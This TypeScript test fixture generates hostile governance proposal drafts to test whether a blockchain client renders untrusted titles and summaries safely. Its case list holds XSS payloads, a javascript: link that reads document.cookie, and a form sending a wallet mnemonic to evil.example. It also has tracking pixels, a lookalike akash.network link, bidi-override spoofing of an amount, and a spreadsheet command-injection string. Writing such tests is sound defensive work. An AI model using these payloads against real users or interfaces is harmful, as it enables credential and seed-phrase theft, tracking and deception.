import { formatAccount } from '../accounts.ts'
import { akt } from '../coins.ts'
import { communityPoolSpend } from '../messages.ts'
import type { Random } from '../random.ts'
import { ipfsMetadata, type ProposalDraft } from './draft.ts'

type Hostile = Partial<ProposalDraft> & { readonly title: string; readonly summary: string }

/** What somebody might write to harm a reader or a client. The chain takes each: only its limits of size hold. */
const CASES: readonly ((random: Random) => Hostile)[] = [
  () => ({
    title: '<script>alert("title")</script>Claim your <b>rewards</b>',
    summary: `<script>document.body.innerHTML=''</script>

<img src=x onerror="alert(1)"> <iframe src="https://evil.example"></iframe>

<form action="https://evil.example"><input name="mnemonic" placeholder="24 words"></form>

<style>*{display:none}</style>`,
  }),
  () => ({
    title: 'Airdrop: connect your wallet before midnight',
    summary: `[Claim now](javascript:alert(document.cookie)) or [here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

[https://akash.network](https://akash.network.evil.example/claim) · <javascript:alert(1)> · [vb](vbscript:msgbox)

[x]: JaVaScRiPt:alert(1)
[Reference link][x]`,
  }),
  () => ({
    title: 'Pictures that call home ![x](https://evil.example/title.png)',
    summary: `![a pixel](https://evil.example/pixel.png?reader=1)

![](//evil.example/second.svg) ![inline](data:image/svg+xml,<svg onload=alert(1)>)

[![linked](http://127.0.0.1:26657/status)](https://evil.example)`,
  }),
  () => ({
    title: 'Transfer of \u202E000,1\u202C AKT \u2066to \u2067nobody\u2069',
    summary: `The line \u202Edetrevni si\u202C. Zero\u200Bwidth, soft\u00ADhyphen, \u0000 null, \u0007 bell, \u001B[31mred\u001B[0m.

العنوان هنا من اليمين إلى اليسار وفيه English و 12345.

Z\u0351\u036B\u0343a\u0334\u0321l\u0335\u0319g\u0336\u0348o`,
  }),
  () => ({
    title: 'Metadata of ten kilobytes',
    summary: 'The field for metadata is filled to its end.',
    metadata: 'metadata '.repeat(1133),
  }),
  () => ({ title: 'A very long text', summary: writeLongText() }),
  () => ({ title: ' \u200B ', summary: '\u200B' }),
  (random) => ({
    title: 'A message nobody has heard of',
    summary: 'Its type is of a module that clients do not know.',
    metadata: '',
    messages: [
      { typeUrl: '/skylight.demo.v1.MsgMoveTheHorizon', value: random.bytes(96) },
      communityPoolSpend(formatAccount(random.bytes(20)), akt(1)),
    ],
  }),
  () => ({
    title: 'No message, and JSON that is none',
    summary: '\n',
    metadata: '{"title": "unfinished',
  }),
  () => ({
    title: 'W'.repeat(400),
    summary: `${'unbreakable'.repeat(60)}\n\n${'> '.repeat(40)}deep\n\n${'- a\n  '.repeat(30)}`,
  }),
  () => ({
    title: '=cmd|" /C calc"!A0',
    summary: '| a |\n|---|\n| `|` |\n\n```\nnever closed',
  }),
]

export function draftHostile(index: number, random: Random): ProposalDraft {
  const metadata = ipfsMetadata(random)
  const hostile = CASES[index % CASES.length]?.(random)
  return { title: '', summary: '', metadata, messages: [], ...hostile }
}

/** About 100 kB of headings and sentences. */
function writeLongText(): string {
  return Array.from(
    { length: 420 },
    (_, at) =>
      `## Section ${at + 1}\n\nThis paragraph says the same as the ${at} before it, for length is all it is about. ` +
      `It names [a link](https://forum.example/t/${at}) and **nothing** that matters. ` +
      `Whoever scrolls this far has seen enough of it.\n`,
  ).join('\n')
}
